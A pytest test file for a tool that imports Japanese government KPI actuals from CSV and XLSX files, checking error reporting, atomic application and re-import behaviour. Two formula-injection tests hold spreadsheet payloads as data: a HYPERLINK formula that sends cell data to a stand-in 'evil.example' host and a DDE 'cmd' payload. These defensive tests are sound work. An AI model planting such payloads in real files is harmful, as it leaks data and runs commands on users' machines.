"""Importing actuals files end to end, on SQLite and PostgreSQL: a bad file is reported row by
row and writes nothing; a good file is planned, applied atomically, and re-importing it is a no-op.

Every file is written to tmp_path as real bytes in a real encoding; nothing is mocked.
"""

from __future__ import annotations

import csv
import hashlib
import io
import struct
import time
import zipfile
import zlib
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.exc import IntegrityError
from sqlalchemy.orm import Session

from sousei.ingest.actuals import ActualsReading, RowError, read_actuals
from sousei.model import Kpi, SourceSpan, Strategy, Target
from sousei.model.actuals import Period, Report
from sousei.report.formats import table_csv, tables_xlsx
from sousei.report.plan import render_errors, render_plan
from sousei.report.tables import Table
from sousei.report.template import write_template
from sousei.store import kpis, observations, strategies
from sousei.store.clock import now
from sousei.store.observations import ImportPlan, PlannedChange
from sousei.store.tables import ObservationRow

TODAY = date(2026, 6, 1)
VISITORS = "national/A-KPI④-1"  # 訪日外国人旅行者数: 人, calendar
SPENDING = "national/g-1"  # インバウンド消費額: 円, calendar
SMART_FARMING = "national/a-1"  # スマート農業技術の活用割合: %, fiscal
RELOCATED = "national/c-2"  # 従業員増加数の累計: 人, 2015～2027年度累計
HEADER = ["KPI ID", "年度", "値", "単位", "状態", "公表者", "資料名", "公表日", "URL", "備考"]
JNTO = ["推計値", "日本政府観光局（JNTO）", "訪日外客数", "2026-01-21", "https://www.jnto.go.jp/"]
GOOD = [
    [VISITORS, "2024", "36869900", "人", *JNTO, ""],
    [VISITORS, "2025", "42683600", "人", *JNTO, ""],
    [
        SPENDING,
        "2024",
        "8125700000000",
        "円",
        "確報",
        "観光庁",
        "消費動向調査",
        "2025-03-19",
        "",
        "",
    ],
    [SMART_FARMING, "2024年度", "25.6", "%", "速報", "農林水産省", "", "", "", "試算"],
    [RELOCATED, "2024年度", "32000", "人", "確定値", "内閣府", "", "", "", ""],
]


@pytest.fixture
def loaded(session: Session, national_model: Strategy) -> Session:
    strategies.load_strategy(session, strategy=national_model, key="national", actor="test")
    return session


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def read_file(session: Session, path: Path, key: str = "national") -> ActualsReading:
    revision = strategies.revision(session, key=key)
    return read_actuals(
        path.read_bytes(),
        name=path.name,
        kpis=kpis.catalogue(session, key=key),
        first_year=revision.first_year,
        last_year=revision.last_year,
        today=TODAY,
    )


def import_file(
    session: Session, path: Path, *, apply: bool = True, key: str = "national"
) -> tuple[ActualsReading, ImportPlan | None]:
    """What `sousei actuals import FILE --apply` does: a file with any error writes nothing."""
    reading = read_file(session, path, key)
    if reading.errors:
        return reading, None
    plan = observations.plan_import(session, reports=reading.reports)
    if apply and plan.writes:
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        observations.apply_import(
            session, plan=plan, actor="test", file_name=path.name, sha256=digest
        )
    return reading, plan


def stored(session: Session) -> int:
    return session.scalar(select(func.count()).select_from(ObservationRow)) or 0


def refused(session: Session, path: Path, key: str = "national") -> list[RowError]:
    """Import a bad file: it must be refused with errors, and nothing may be written."""
    before = stored(session)
    reading, plan = import_file(session, path, key=key)
    assert plan is None
    assert reading.errors
    assert stored(session) == before
    return reading.errors


def with_bad_row(tmp_path: Path, bad: list[str], name: str = "bad.csv") -> Path:
    """The good rows and one bad one: a partial import would show."""
    return write_csv(tmp_path / name, [HEADER, *GOOD, bad])


BAD_ROW = len(GOOD) + 2  # the line of the row after the good ones


# -- bad imports: each is reported clearly and writes nothing ------------------------------------


def test_wrong_encoding(loaded: Session, tmp_path: Path) -> None:
    rows = [["指標", "年", "値"], ["訪日外国人旅行者数", "2024", "36869900"]]
    path = write_csv(tmp_path / "euc.csv", rows, encoding="euc_jp")
    assert refused(loaded, path) == [
        RowError(
            None,
            None,
            None,
            "文字コードを判別できません（UTF-8 でも Shift_JIS（CP932）でもありません）。"
            "UTF-8 または Shift_JIS で保存してください",
        )
    ]


def test_missing_column(loaded: Session, tmp_path: Path) -> None:
    rows = [[("金額" if c == "値" else c) for c in HEADER], *GOOD]
    path = write_csv(tmp_path / "no-value.csv", rows)
    [error] = refused(loaded, path)
    assert error == RowError(
        None,
        "値",
        None,
        "必須の列「値」がありません"
        "（見出し: KPI ID、年度、金額、単位、状態、公表者、資料名、公表日、URL、備考）",
    )
    assert render_errors([error]).splitlines()[1].startswith("  ファイル 値: 必須の列「値」")


def test_text_in_a_number_cell(loaded: Session, tmp_path: Path) -> None:
    path = with_bad_row(tmp_path, [VISITORS, "2023", "集計後に報告", "人", "", "", "", "", "", ""])
    errors = refused(loaded, path)
    assert errors == [RowError(BAD_ROW, "値", "集計後に報告", "数値として読めません")]
    assert render_errors(errors) == "誤り 1 件:\n  7 行目 値「集計後に報告」: 数値として読めません"


def test_unknown_unit(loaded: Session, tmp_path: Path) -> None:
    path = with_bad_row(tmp_path, [VISITORS, "2023", "2506", "万ひと", "", "", "", "", "", ""])
    assert refused(loaded, path) == [
        RowError(BAD_ROW, "単位", "万ひと", "単位「万ひと」は不明です")
    ]


def test_unit_of_the_wrong_dimension(loaded: Session, tmp_path: Path) -> None:
    path = with_bad_row(tmp_path, [VISITORS, "2023", "5.3兆円", "", "", "", "", "", "", ""])
    assert refused(loaded, path) == [
        RowError(BAD_ROW, "値", "5.3兆円", "単位「円」はこの KPI（人）と次元が合いません")
    ]


def test_unknown_kpi(loaded: Session, tmp_path: Path) -> None:
    rows = [["指標", "年", "値"], ["訪日外国人旅行者数", "2024", "36869900"]]
    rows.append(["訪日外国人観光客数", "2024", "36869900"])
    [error] = refused(loaded, write_csv(tmp_path / "unknown.csv", rows))
    assert (error.row, error.column, error.value) == (3, "指標", "訪日外国人観光客数")
    assert error.reason.startswith("KPI「訪日外国人観光客数」が見つかりません（近いもの: ")
    assert f"{VISITORS}（訪日外国人旅行者数）" in error.reason


def test_ambiguous_kpi(loaded: Session, tmp_path: Path) -> None:
    entries = kpis.catalogue(loaded, key="national")
    shared = {e.kpi_id: e.indicator for e in entries}["national/d-2.1"]
    assert [e.kpi_id for e in entries if e.indicator == shared] == [
        "national/d-2.1",
        "national/d-2.2",
    ]  # one bullet, two dated targets: two KPIs with one indicator
    rows = [["指標", "年度", "値"], ["訪日外国人旅行者数", "2024", "36869900"]]
    rows.append([shared, "2024", "3.1%"])
    [error] = refused(loaded, write_csv(tmp_path / "ambiguous.csv", rows))
    assert (error.row, error.column, error.value) == (3, "指標", shared)
    assert error.reason == (
        "KPI「（中堅・中小企業の賃上げに向けた省力化等の大規模成長投資補助金事業の）交付決定…」"
        "は複数あります: 候補 "
        "national/d-2.1（目標: 地域別の最低賃金の伸び率（令和5年度補正予算）"
        "を超える（2030年度））、"
        "national/d-2.2（目標: 全国平均の最低賃金の伸び率（令和6年度補正予算）"
        "を超える（2031年度））。"
        "「KPI ID」の列で指定してください"
    )


def test_duplicate_rows_in_one_file(loaded: Session, tmp_path: Path) -> None:
    path = with_bad_row(tmp_path, [VISITORS, "2025年", "42700000", "人", "", "", "", "", "", ""])
    assert refused(loaded, path) == [
        RowError(BAD_ROW, "年度", "2025年", "同じ KPI・期間の行が 3 行目と重複しています")
    ]


def test_a_year_outside_the_strategy(loaded: Session, tmp_path: Path) -> None:
    path = with_bad_row(tmp_path, [VISITORS, "2040", "60000000", "人", "", "", "", "", "", ""])
    assert refused(loaded, path) == [
        RowError(BAD_ROW, "年度", "2040", "2040年はこの戦略の期間（2015～2033年）の外です")
    ]


def test_an_empty_file(loaded: Session, tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    path.write_bytes(b"")
    assert refused(loaded, path) == [RowError(None, None, None, "ファイルが空です")]


def png() -> bytes:
    """A real 1×1 PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document/>')
    return out.getvalue()


PDF = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("name", "data", "what"),
    [
        ("actuals.pdf", PDF, "PDF です"),
        ("actuals.png", png(), "PNG 画像です"),
        ("actuals.xlsx", docx(), "Word 文書（.docx）です"),  # the name does not decide
    ],
)
def test_a_file_that_is_not_csv_or_xlsx(
    loaded: Session, tmp_path: Path, name: str, data: bytes, what: str
) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    assert refused(loaded, path) == [
        RowError(None, None, None, f"CSV または XLSX ではありません（{what}）")
    ]


def bulk_strategy(national: Strategy, count: int) -> Strategy:
    """The national strategy with `count` extra KPIs, for a file of 100,000 distinct rows."""
    target = Target(
        text="1万人（2015～2030年度累計）",
        value=Decimal(10000),
        unit="人",
        comparator=">=",
        target_year=2030,
        year_basis="fiscal",
    )
    extra = [
        Kpi(
            id=f"bulk-{i}",
            level="output",
            owner="a",
            indicator=f"大量の指標 {i:04}",
            target=target,
            text=f"大量の指標 {i:04}：1万人",
            lines=SourceSpan(start=1, end=1),
        )
        for i in range(count)
    ]
    return national.model_copy(update={"kpis": (*national.kpis, *extra)})


def test_100_000_rows_with_one_bad_row_at_the_end(
    loaded: Session, national_model: Strategy, tmp_path: Path
) -> None:
    strategies.load_strategy(
        loaded, strategy=bulk_strategy(national_model, 1000), key="bulk", actor="test"
    )
    periods = [f"{s}～{e}" for s in range(2015, 2025) for e in range(s, 2025)][:50]
    rows = [["KPI ID", "年度", "期間区分", "値", "単位", "状態"]]
    for n in range(100_000):  # 1,000 KPIs × 50 periods × 2 bases: no two rows alike
        kpi, period, basis = f"bulk/bulk-{n // 100}", periods[n % 100 // 2], ("年度", "年")[n % 2]
        rows.append([kpi, period, basis, str(n * 7 + 1), "人", "確定値"])
    rows.append(["bulk/bulk-0", "2024", "年度", "1,0OO", "人", "確定値"])  # letter O, not zero
    path = write_csv(tmp_path / "bulk.csv", rows)
    errors = refused(loaded, path, key="bulk")
    assert errors == [RowError(100_002, "値", "1,0OO", "数値として読めません")]


def test_a_formula_in_a_value_cell(loaded: Session, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"42683600")'
    path = with_bad_row(tmp_path, [VISITORS, "2023", formula, "人", "", "", "", "", "", ""])
    assert refused(loaded, path) == [RowError(BAD_ROW, "値", formula, "数式は受け付けません")]


def test_a_formula_in_a_text_cell_is_stored_as_text_and_exported_inert(
    loaded: Session, tmp_path: Path
) -> None:
    note = '=HYPERLINK("https://evil.example/?"&A1,"出典")'
    row = [VISITORS, "2023", "25066350", "人", "確定値", "JNTO", "@SUM(1+1)*cmd|' /C calc'!A0"]
    path = write_csv(tmp_path / "note.csv", [HEADER, [*row, "", "", note]])
    import_file(loaded, path)
    [figure] = observations.current(loaded, kpi_ids=[VISITORS])
    assert figure.note == note
    assert figure.source.publication == "@SUM(1+1)*cmd|' /C calc'!A0"
    table = Table("actuals", ("資料名", "備考"), [(figure.source.publication, figure.note)])
    exported = table_csv(table).data.decode("utf-8-sig").splitlines()[1]
    publication, quoted_note = exported.split(",", 1)
    assert publication == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert quoted_note == '"\'=HYPERLINK(""https://evil.example/?""&A1,""出典"")"'
    sheet = load_workbook(io.BytesIO(tables_xlsx([table])))["actuals"]
    assert [(c.value, c.data_type) for c in sheet[2]] == [
        (figure.source.publication, "s"),
        (note, "s"),
    ]


# -- good imports --------------------------------------------------------------------------------


def good_csv(
    tmp_path: Path, encoding: str = "utf-8", rows: list[list[str]] | None = None, name: str = ""
) -> Path:
    path = tmp_path / (name or f"good-{encoding}.csv")
    return write_csv(path, [HEADER, *(GOOD if rows is None else rows)], encoding)


def test_a_good_file_is_planned_then_applied_atomically(loaded: Session, tmp_path: Path) -> None:
    reading, plan = import_file(loaded, good_csv(tmp_path), apply=False)
    assert plan is not None
    assert [(c.kind, c.row) for c in plan.changes] == [("add", n) for n in range(2, 7)]
    text = render_plan(plan, kpis=kpis.catalogue(loaded, key="national"))
    assert text.splitlines()[:3] == [
        "追加 5 件 / 更新（差し替え） 0 件 / 同一のため省略 0 件",
        "",
        "追加:",
    ]
    assert "  2 行目 national/A-KPI④-1（訪日外国人旅行者数） 2024年: 36869900 人 [推計値]" in text
    assert "2015～2024年度: 32000 人 [確定値]" in text  # a 累計 KPI's year is its running total
    assert stored(loaded) == 0  # planning writes nothing

    batch = observations.apply_import(
        loaded, plan=plan, actor="mlit", file_name="good.csv", sha256="0" * 64
    )
    rows = loaded.scalars(select(ObservationRow)).all()
    assert len(rows) == 5
    assert {(r.batch_id, r.entered_by, r.review_state) for r in rows} == {
        (batch.id, "mlit", "submitted")
    }
    in_force = observations.current(loaded, kpi_ids=[c.report.kpi_id for c in plan.changes])
    as_reports = {
        Report.model_validate(o.model_dump(include=set(Report.model_fields))) for o in in_force
    }
    assert as_reports == {r for _, r in reading.reports}


def test_a_failing_apply_writes_nothing(loaded: Session, tmp_path: Path) -> None:
    _, plan = import_file(loaded, good_csv(tmp_path), apply=False)
    assert plan is not None
    stray = Report(
        kpi_id="national/no-such-kpi",
        period=Period(start=2024, end=2024, basis="fiscal"),
        value=Decimal(1),
        unit="人",
    )
    broken = ImportPlan((*plan.changes, PlannedChange("add", stray, 99)))
    with pytest.raises(IntegrityError), loaded.begin_nested():
        observations.apply_import(
            loaded, plan=broken, actor="mlit", file_name="good.csv", sha256="0" * 64
        )
    assert stored(loaded) == 0


def test_importing_the_same_file_twice_changes_nothing(loaded: Session, tmp_path: Path) -> None:
    path = good_csv(tmp_path)
    import_file(loaded, path)
    assert stored(loaded) == 5
    _, again = import_file(loaded, path)
    assert again is not None
    assert [c.kind for c in again.changes] == ["identical"] * 5
    assert again.writes == []
    assert stored(loaded) == 5
    assert render_plan(again) == "追加 0 件 / 更新（差し替え） 0 件 / 同一のため省略 5 件"


def test_a_changed_value_supersedes_and_the_old_one_stays_known(
    loaded: Session, tmp_path: Path
) -> None:
    import_file(loaded, good_csv(tmp_path))
    time.sleep(0.01)
    before = now()
    time.sleep(0.01)
    revised = [list(row) for row in GOOD]
    revised[1][2], revised[1][4] = "42700000", "確定値"  # 2025: the estimate becomes final
    _, plan = import_file(loaded, good_csv(tmp_path, rows=revised, name="revised.csv"))
    assert plan is not None
    assert [c.kind for c in plan.changes] == ["identical", "supersede", *["identical"] * 3]
    change = plan.changes[1]
    assert change.current is not None
    assert (change.current.value, change.report.value) == (Decimal(42683600), Decimal(42700000))
    assert render_plan(plan).splitlines() == [
        "追加 0 件 / 更新（差し替え） 1 件 / 同一のため省略 4 件",
        "",
        "更新（差し替え）:",
        f"  3 行目 {VISITORS} 2025年: 42683600 人 [推計値] → 42700000 人 [確定値]",
    ]
    assert stored(loaded) == 6
    now_known = observations.current(loaded, kpi_ids=[VISITORS])
    then_known = observations.current(loaded, kpi_ids=[VISITORS], as_of=before)
    assert [(o.period.end, int(o.value)) for o in now_known] == [
        (2024, 36869900),
        (2025, 42700000),
    ]
    assert [(o.period.end, int(o.value)) for o in then_known] == [
        (2024, 36869900),
        (2025, 42683600),
    ]
    assert now_known[1].supersedes == then_known[1].id


def comparable(plan: ImportPlan | None) -> list[tuple[str, Report]]:
    """A plan without row numbers, in a fixed order: layouts number their rows differently."""
    assert plan is not None
    return sorted(
        ((c.kind, c.report) for c in plan.changes),
        key=lambda item: (item[1].kpi_id, item[1].period.start, item[1].period.end),
    )


def test_utf8_bom_and_cp932_give_the_same_plan(loaded: Session, tmp_path: Path) -> None:
    plans = [
        import_file(loaded, good_csv(tmp_path, encoding), apply=False)
        for encoding in ("utf-8", "utf-8-sig", "cp932")
    ]
    assert [reading.file_format for reading, _ in plans] == [
        "CSV（UTF-8）",
        "CSV（UTF-8（BOM 付き））",
        "CSV（Shift_JIS）",
    ]
    keyed = [[(c.kind, c.row, c.report) for c in plan.changes] for _, plan in plans if plan]
    assert keyed[0] == keyed[1] == keyed[2]
    assert len(keyed[0]) == 5


def long_xlsx(path: Path) -> Path:
    """The good rows as an official's own workbook: numbers as numbers."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER)
    for row in GOOD:
        cells: list[object] = list(row)
        cells[2] = Decimal(row[2]) if "." in row[2] else int(row[2])
        cells[1] = int(row[1]) if row[1].isdigit() else row[1]
        sheet.append(cells)
    workbook.save(path)
    return path


def wide_xlsx(session: Session, path: Path) -> Path:
    """The good rows typed into the entry template."""
    chosen = [VISITORS, SPENDING, SMART_FARMING, RELOCATED]
    entries = [e for e in kpis.catalogue(session, key="national") if e.kpi_id in chosen]
    workbook = load_workbook(io.BytesIO(write_template(entries, years=[2023, 2024, 2025])))
    sheet = workbook["入力"]
    columns = {str(cell.value): i for i, cell in enumerate(sheet[1], start=1)}
    lines = {str(row[0].value): i for i, row in enumerate(sheet.iter_rows(min_row=2), start=2)}
    for kpi_id, year, value, _unit, *details in GOOD:
        line = lines[kpi_id]
        figure = sheet.cell(line, columns[year.removesuffix("年度")])
        figure.value = Decimal(value) if "." in value else int(value)
        for name, text in zip(HEADER[4:], details, strict=True):
            sheet.cell(line, columns[name]).value = text or None
    workbook.save(path)
    return path


def test_xlsx_long_and_wide_give_the_same_plan_as_csv(loaded: Session, tmp_path: Path) -> None:
    _, from_csv = import_file(loaded, good_csv(tmp_path), apply=False)
    long_reading, from_long = import_file(loaded, long_xlsx(tmp_path / "long.xlsx"), apply=False)
    wide_reading, from_wide = import_file(
        loaded, wide_xlsx(loaded, tmp_path / "wide.xlsx"), apply=False
    )
    assert (long_reading.layout, wide_reading.layout) == ("long", "wide")
    assert comparable(from_long) == comparable(from_csv)
    assert comparable(from_wide) == comparable(from_csv)
